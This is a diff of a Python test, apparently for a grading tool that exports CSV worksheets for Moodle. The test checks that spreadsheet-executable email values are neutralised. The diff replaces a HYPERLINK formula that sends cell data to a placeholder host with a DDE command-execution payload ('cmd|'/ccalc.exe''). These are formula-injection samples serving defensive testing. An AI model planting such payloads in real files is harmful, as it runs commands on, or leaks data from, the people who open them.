@@ -280,7 +280,7 @@ def test_a_moodle_email_a_spreadsheet_would_run_is_written_as_text(tmp_path):
         "student_id,assignment,score,max_score,status,flags,seconds\n2001,00_x,1,2,ok,,0.1\n"
     )
     template = tmp_path / "worksheet.csv"
-    email = '=HYPERLINK("http://x/"&A1)@example.org'  # a valid address for Moodle's check
+    email = "=cmd|'/ccalc.exe'!A0@example.org"  # every character allowed by Moodle's check
     quoted = '"' + email.replace('"', '""') + '"'
     template.write_text(MOODLE_WORKSHEET.replace("yuna@example.org", quoted), encoding="utf-8")
     out = tmp_path / "out.csv"
